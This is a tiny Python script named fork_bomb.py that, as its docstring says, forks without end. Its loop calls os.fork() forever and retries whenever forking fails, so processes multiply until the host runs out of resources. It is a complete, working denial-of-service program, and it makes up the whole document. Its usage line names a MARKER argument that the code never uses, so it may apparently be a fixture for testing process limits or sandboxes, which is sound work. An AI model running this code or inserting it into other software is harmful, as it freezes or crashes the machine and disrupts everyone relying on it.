"""Forks without end; every child forks again.

usage: fork_bomb.py MARKER
"""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
